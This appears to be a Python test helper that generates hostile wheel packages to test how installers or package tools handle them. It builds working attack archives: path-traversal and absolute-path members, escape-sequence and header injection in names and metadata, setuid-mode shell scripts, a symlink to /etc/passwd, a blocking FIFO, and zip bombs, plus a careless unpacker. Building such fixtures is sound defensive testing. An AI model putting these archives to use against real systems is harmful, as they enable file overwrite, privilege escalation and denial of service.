"""Wheels as a hostile backend makes them. Each function writes what comes out into a folder; `plan` is plan.json."""
import base64
import hashlib
import os
import struct
import sys
import zipfile
import zlib

MB = 1 << 20


def good(folder, plan):
    return write(folder, plan["project"])


def other_name(folder, plan):
    return write(folder, "requests")


def ten(folder, plan):
    return [write(folder, plan["project"], build=f"-{number}") for number in range(1, 11)][0]


def upward(folder, plan):
    return write(folder, plan["project"], {f"../../{plan['mark']}.py": b"outside"})


def absolute(folder, plan):
    return write(folder, plan["project"], {f"/{plan['mark']}": b"outside"})


def controls(folder, plan):
    return write(folder, plan["project"], {"evil\r\nX-Injected: yes\r\n\x1b]0;owned\x07.py": b""})


def other_words(folder, plan):
    return write(folder, plan["project"], metadata="Metadata-Version: 2.1\nName: evil\x1b]0;owned\x07\x1b[31m\u202e\rX-Injected: yes\nVersion: 1.0\n")


def with_rights(folder, plan):
    """Modes that lend rights, where whoever unpacks it takes modes as they are."""
    return write(folder, plan["project"], {"hostile_shell": b"#!/bin/sh\nid -u\n"}, mode=0o106755)


def with_module(folder, plan):
    """A module whose text the plan holds, run when it is imported."""
    return write(folder, plan["project"], {f"{plan['module']}.py": plan["text"].encode()})


def large(folder, plan):
    """One that takes a while to be carried out."""
    return write(folder, plan["project"], {f"{plan['mark']}.bin": os.urandom(12 * MB)})


def huge(folder, plan):
    """As good as no bytes on a disk, ten gigabytes for whoever reads it."""
    name = filename(plan["project"])
    with open(os.path.join(folder, name), "wb") as file:
        file.truncate(10 << 30)
    return name


def link(folder, plan):
    name = filename(plan["project"])
    os.symlink("/etc/passwd", os.path.join(folder, name))
    return name


def pipe(folder, plan):
    """Whoever opens it to read waits for ever."""
    name = filename(plan["project"])
    os.mkfifo(os.path.join(folder, name))
    return name


def bomb(folder, plan):
    """One member of 300 MB, a few hundred kilobytes packed."""
    return write(folder, plan["project"], {"bomb.bin": bytes(300 * MB)})


def bombs(folder, plan):
    """Ten gigabytes in forty members, none of them large by itself."""
    name = filename(plan["project"])
    with open(os.path.join(folder, name), "wb") as file:
        file.write(zip_of_zeros(f"{stem(plan['project'])}-1.0.dist-info", 40))
    return name


def write(folder, project, members=None, metadata=None, mode=0o100644, build=""):
    info = f"{stem(project)}-1.0.dist-info"
    files = {
        f"{stem(project)}_.py": b"",
        **(members or {}),
        f"{info}/METADATA": (metadata or f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n").encode(),
        f"{info}/WHEEL": f"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n{build and f'Build: {build[1:]}'}\n".encode(),
    }
    record = "".join(f'"{name}",sha256={digest(body)},{len(body)}\n' for name, body in files.items())
    with zipfile.ZipFile(os.path.join(folder, filename(project, build)), "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in [*files.items(), (f"{info}/RECORD", f"{record}{info}/RECORD,,\n".encode())]:
            entry = zipfile.ZipInfo(name)
            entry.external_attr = mode << 16
            entry.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(entry, body, compresslevel=1)
    return filename(project, build)


def zip_of_zeros(folder, count):
    """A sound zip file of `count` members of 256 MB each, which are packed once."""
    size, packer, crc = 256 * MB, zlib.compressobj(9, zlib.DEFLATED, -15), 0
    packed = b""
    for _ in range(size // MB):
        packed += packer.compress(bytes(MB))
        crc = zlib.crc32(bytes(MB), crc)
    packed += packer.flush()
    local, central = b"", b""
    for number in range(count):
        name = f"{folder}/{number}".encode()
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, len(packed), size, len(name), 0)
        central += b"PK\x01\x02\x14\x03" + common + struct.pack("<HHHII", 0, 0, 0, 0o100644 << 16, len(local)) + name
        local += b"PK\x03\x04" + common + name + packed
    return local + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)


def digest(body):
    return base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b"=").decode()


def filename(project, build=""):
    return f"{stem(project)}-1.0{build}-py3-none-any.whl"


def stem(project):
    return project.replace("-", "_")


def unpack_carelessly(wheel):
    for entry in (archive := zipfile.ZipFile(wheel)).infolist():
        path = os.path.join("/tmp/a/b", entry.filename)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(archive.read(entry))
        os.chmod(path, entry.external_attr >> 16 & 0o7777)


if __name__ == "__main__":
    unpack_carelessly(sys.argv[1])
